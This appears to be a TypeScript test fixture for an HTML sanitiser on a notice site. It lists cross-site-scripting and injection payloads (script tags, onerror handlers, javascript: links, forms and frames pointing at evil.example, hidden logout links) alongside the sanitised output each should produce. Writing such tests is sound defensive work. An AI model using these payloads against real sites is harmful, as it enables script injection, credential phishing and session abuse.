const picture = "/download/fileView?attachGroup=notice&amp;attachPath=a.png";

/** An ordinary notice as it is stored and shown. */
export const ordinaryHtml =
  '<h2>通知</h2><p>请<strong>按时</strong>参加，见<a href="/info/x">说明</a></p><ul><li>一</li></ul>' +
  `<table><tbody><tr><td colspan="2">甲</td></tr></tbody></table><img src="${picture}" alt="图">`;

/**
 * Name, HTML, and the expected result of sanitising it: on the server when it is saved, in the browser before it is
 * shown.
 */
export const htmlPayloads: readonly (readonly [string, string, string])[] = [
  ["a script", "<script>alert(1)</script>", ""],
  ["a handler", `<img src="${picture}" onerror="alert(1)">`, `<img src="${picture}">`],
  ["a handler without quotes", "<p onclick=alert(1)>x</p>", "<p>x</p>"],
  ["a script in a drawing", "<svg><script>alert(1)</script></svg>", ""],
  ["a drawing that loads", "<svg onload=alert(1)></svg>", ""],
  ["mathematics that hides one", '<math><mtext><img src="/a" onerror="alert(1)"></mtext></math>', ""],
  ["a style sheet", "<style>@import url(https://evil.example/x)</style>x", "x"],
  ["a style", '<p style="background:url(https://evil.example/x)">x</p>', "<p>x</p>"],
  ["a form", '<form action="https://evil.example"><input name="password"></form>', ""],
  ["a frame", '<iframe src="https://evil.example"></iframe>', ""],
  ["an object", '<object data="https://evil.example"></object>', ""],
  ["a base address", '<base href="https://evil.example/">x', "x"],
  ["another address for the page", '<meta http-equiv="refresh" content="0;url=https://evil.example">x', "x"],
  ["a link that runs", '<a href="javascript:alert(1)">x</a>', "<a>x</a>"],
  ["a link that runs, disguised", '<a href="java\tscript:alert(1)">x</a>', "<a>x</a>"],
  ["a link to data", '<a href="data:text/html,x">x</a>', "<a>x</a>"],
  ["a link without a scheme to another site", '<a href="//evil.example">x</a>', "<a>x</a>"],
  ["a picture of another site", '<img src="https://evil.example/pixel.gif">x', "x"],
  ["a picture out of data", '<img src="data:image/svg+xml,<svg onload=alert(1)>">x', "x"],
  ["a picture of another site without a scheme", '<img src="//evil.example/pixel.gif">x', "x"],
  ["a set of pictures", `<img src="${picture}" srcset="https://evil.example/x 2x">`, `<img src="${picture}">`],
  ["names that hide the page's own", '<a id="location" name="cookie">x</a>', "<a>x</a>"],
  ["attributes of data", '<p data-x="y" aria-hidden="true" class="z">x</p>', "<p>x</p>"],
  ["a comment", "<!--[if IE]><script>alert(1)</script><![endif]-->x", "x"],
  ["a template", "<template><script>alert(1)</script></template>x", "x"],
  ["a picture of another site behind a sign that browsers skip", '<img src="/\t/evil.example/pixel.gif">x', "x"],
  ["a link that signs out", '<a href="/cas/logout">x</a>', "<a>x</a>"],
  ["a link that signs out, in other letters", '<a href="/atlxauth//LOGOUT?a=1">x</a>', "<a>x</a>"],
  ["a link that signs out by a flag", '<a href="/info/home?logoutFlag=1">x</a>', "<a>x</a>"],
  ["a link that signs out behind an escape", '<a href="/%63as/logout">x</a>', "<a>x</a>"],
  ["a link that signs out behind the login page", '<a href="/user/login?redirect=%2Fcas%2Flogout">x</a>', "<a>x</a>"],
  ["a link that signs in by a ticket", '<a href="/?ticket=ST-1">x</a>', "<a>x</a>"],
  ["a link that signs in by a token", '<a href="/info/home?token=abc">x</a>', "<a>x</a>"],
  ["a link to a call", '<a href="/thirdLogin/render/x">x</a>', "<a>x</a>"],
  ["a picture that is a call of this site", '<img src="/cas/logout">x', "x"],
  ["a picture that is a call, disguised as a file", '<img src="/download/fileView/../../cas/logout">x', "x"],
  ["a link to another site behind a sign that browsers skip", '<a href="/\t/evil.example">x</a>', "<a>x</a>"],
  ["a link that runs, behind a blank", '<a href=" javascript:alert(1)">x</a>', "<a>x</a>"],
  ["a sound and a film", '<audio src="/a.mp3"></audio><video src="https://evil.example/x" poster="/p"></video>x', "x"],
  [
    "a background of a table",
    '<table background="https://evil.example/x"><tbody><tr><td>x</td></tr></tbody></table>',
    "<table><tbody><tr><td>x</td></tr></tbody></table>",
  ],
  [
    "what Word copies",
    '<html xmlns:o="urn:schemas-microsoft-com:office:office"><head><style><!-- p.MsoNormal{mso-style-unhide:no} --></style>' +
      "<script>alert(1)</script></head><body><!--StartFragment-->" +
      '<p class="MsoNormal" style="mso-margin-top-alt:auto"><b style="mso-bidi-font-weight:normal"><span lang="EN-US" ' +
      'style="font-size:16pt">采购公告</span></b><o:p></o:p></p><!--EndFragment--></body></html>',
    "<p><b>采购公告</b></p>",
  ],
  [
    "what WPS copies, with its settings beside it",
    "<xml><w:WordDocument><w:View>Normal</w:View></w:WordDocument></xml><p>采购公告</p>",
    "<p>采购公告</p>",
  ],
];
